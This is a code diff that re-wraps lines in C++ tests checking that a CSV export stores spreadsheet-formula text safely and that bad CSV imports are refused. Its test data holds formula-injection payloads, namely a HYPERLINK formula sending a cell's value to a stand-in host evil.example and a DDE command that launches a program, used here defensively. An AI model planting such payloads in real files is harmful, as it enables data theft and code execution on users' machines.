@@ -378,8 +378,11 @@ TEST(SetupCsv, TextThatASpreadsheetWouldRunIsWrittenAsTextAndComesBackExactly) {
     testsupport::TempProgramFolder folder;
     std::mt19937 rng(38);
     static const char* const kHeads[] = {"", "=", "+", "-", "@", "\t", "\r", "\n", "'", "''", "'=", " ", "\"", "-2"};
-    static const char* const kBodies[] = {"1+2", "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "2.0", "",
-                                          "SUM(1+1)", "cmd|' /C calc'!A0", "5e3", ".5", "Zürich", ",;\r\n"};
+    static const char* const kBodies[] = {"1+2",      "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                                          "2.0",      "",
+                                          "SUM(1+1)", "cmd|' /C calc'!A0",
+                                          "5e3",      ".5",
+                                          "Zürich",   ",;\r\n"};
     auto hostile = [&](std::mt19937& r) {
         std::uniform_int_distribution<std::size_t> head(0, std::size(kHeads) - 1), body(0, std::size(kBodies) - 1);
         return std::string(kHeads[head(r)]) + kBodies[body(r)];
@@ -472,6 +475,7 @@ TEST(SetupImport, ACsvOfNothingCostsOneLineAndAWideOrOpenOneIsRefusedWhole) {
         ASSERT_EQ(problems.size(), 1u) << c.name;
         EXPECT_EQ(report.notSetups.size() + report.unreadable.size(), 1u) << c.name;
         EXPECT_EQ(problems.front().file, csv.string()) << c.name;
-        EXPECT_NE(problems.front().reason.find(c.problem), std::string::npos) << c.name << ": " << problems.front().reason;
+        EXPECT_NE(problems.front().reason.find(c.problem), std::string::npos)
+            << c.name << ": " << problems.front().reason;
     }
 }
